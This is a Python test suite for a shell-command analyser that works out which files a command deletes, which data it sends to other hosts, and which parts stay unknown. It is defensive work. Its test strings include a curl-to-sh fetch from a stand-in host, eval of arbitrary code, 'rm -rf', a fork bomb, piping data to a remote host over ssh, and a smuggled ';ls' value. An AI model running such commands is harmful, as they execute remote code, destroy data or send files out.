"""What a shell command does, read as bash would run it."""

from __future__ import annotations

import shutil
import subprocess

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from judging import shell

from gate.actions.shell.lexer import read_simple
from gate.actions.shell.marks import has_marks
from gate.actions.shell.runner import Runner
from gate.actions.shell.state import Sink, start
from gate.actions.shell.words import Expander
from gate.model import Facts

HERE = Facts(cwd="/home/lea", home="/home/lea")


def deleted(command: str) -> set[str]:
    return {path for frame in shell(command, HERE) if frame.act == "delete" for path in frame.paths}


def unknown(command: str) -> set[str]:
    return set().union(*(frame.unknown for frame in shell(command, HERE)))


def test_a_word_is_read_in_the_folder_that_the_script_went_to() -> None:
    assert deleted("cd /srv; (cd prod; rm a); rm b") == {"/srv/prod/a", "/srv/b"}


def test_a_list_of_which_the_grammar_had_to_make_up_a_side_is_not_understood() -> None:
    assert "command" in unknown("|\nx\n&&\n}")


def test_a_folder_that_depends_on_a_branch_means_both() -> None:
    assert deleted("cd /a || cd /b; rm x") == {"/a/x", "/b/x"}


def test_a_value_that_differs_by_branch_is_followed_in_both() -> None:
    assert deleted("if test -f y; then d=/a; else d=/b; fi; rm $d/x") == {"/a/x", "/b/x"}


def test_a_loop_runs_for_each_of_its_words() -> None:
    assert deleted("for f in a b{1,2}; do rm $f; done") == {"/home/lea/a", "/home/lea/b1", "/home/lea/b2"}


def test_what_the_environment_would_say_is_unknown() -> None:
    assert "path" in unknown('rm "$UNSET_HERE/x"')
    assert unknown("rm /tmp/build-$$") == set()


def test_quoted_commands_do_nothing() -> None:
    assert deleted("echo 'rm -rf /srv'; grep 'rm -rf /' x; : \"rm y\"") == set()


def test_a_script_that_is_written_and_run_is_read() -> None:
    assert deleted("printf 'rm %s\\n' /srv/x > /tmp/s; sh /tmp/s") == {"/srv/x"}


def test_text_from_elsewhere_into_a_shell_could_do_anything() -> None:
    for command in ("curl -s https://x.example/i | sh", "bash < /tmp/x", 'eval "$CODE"', "$TOOL x"):
        assert "command" in unknown(command), command


def test_a_program_file_is_run_and_not_read() -> None:
    assert unknown("python3 /opt/report.py; bash /opt/build.sh; make all") == set()


def test_moving_a_link_target_through_the_script_is_followed() -> None:
    assert "/srv/prod/x" in deleted("ln -s /srv/prod /tmp/l; rm /tmp/l/x")


def test_data_that_flows_to_another_machine_names_its_files() -> None:
    sent = [frame for frame in shell("cat a | gzip | ssh box 'cat > b'", HERE) if frame.act == "send"]
    assert [frame.paths for frame in sent] == [("/home/lea/a",)]
    assert sent[0].hosts == ("box",)


def test_a_list_of_words_runs_without_a_shell() -> None:
    frames = [frame for frame in shell(["rm", "-rf", "/srv/$X;ls"]) if frame.act == "delete"]  # type: ignore[arg-type]
    assert [frame.paths for frame in frames] == [("/srv/$X;ls",)]


def test_a_function_that_calls_itself_ends() -> None:
    assert "command" in unknown(":(){ :|:& };:")
    assert "command" in unknown("f(){ f; f; }; f")


@pytest.mark.parametrize(
    "command",
    [
        "$(" * 400,
        "(" * 3000,
        "a|" * 15_000,
        "sudo " * 2000,
        "find . -exec " * 2000,
        "{a,b}" * 2000,
        "x" * 1_000_000,
    ],
)
def test_a_command_that_is_too_deep_or_too_long_is_bounded(command: str) -> None:
    assert len(shell(command)) < 2500


ATOMS = [
    *[
        "a",
        "/srv",
        "'q r'",
        '"d q"',
        "$X",
        '"${X}y"',
        "$Y",
        '"$Y"',
        "${Y#a}",
        "${X%o}",
        "${X%%/*}",
        "${X//o/0}",
    ],
    *[
        "${X:1:2}",
        "${N:-def}",
        "${X:+alt}",
        "$'\\x61\\n\\t'",
        "\\ ",
        "\\$",
        '\\"',
        "{a,b}",
        "{1..3}",
        "{a,b{c,d}}",
    ],
    *[
        "$(echo hi there)",
        '"$(echo hi there)"',
        "`echo k`",
        "$((1+2*3))",
        '""',
        "''",
        '"\\$X"',
        '${X:-"a b"}',
    ],
    *[
        "$(dirname /a/b/c)",
        "$(echo abc | rev)",
        "$(echo YWJj | base64 -d)",
        '"${A[@]}"',
        "${A[1]}",
        "${!P}",
        '"$@"',
    ],
]
PREFACE = 'X=foo/oo; Y="a  b c"; A=(one "two x" three); P=X; set -- p1 "p 2"\n'


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash to compare with")
@settings(max_examples=60, deadline=None)
@given(
    st.lists(st.lists(st.sampled_from(ATOMS), min_size=1, max_size=3).map("".join), min_size=1, max_size=3)
)
def test_words_expand_as_bash_expands_them(words: list[str]) -> None:
    line = "printf '%s\\0' " + " ".join(words)
    ran = subprocess.run(["bash", "-c", "set -f\n" + PREFACE + line], capture_output=True, check=False)
    runner = Runner(Sink(Facts()))
    world = runner.script(PREFACE, start(Facts(), "/", {})).worlds[0]
    expander = Expander(world, runner)
    ours = [field for raw in read_simple(line).words[2:] for field in expander.fields(raw)] or [""]
    if ran.returncode == 0 and not ran.stderr and not any(map(has_marks, ours)):
        assert ours == ran.stdout.decode().split("\0")[:-1]
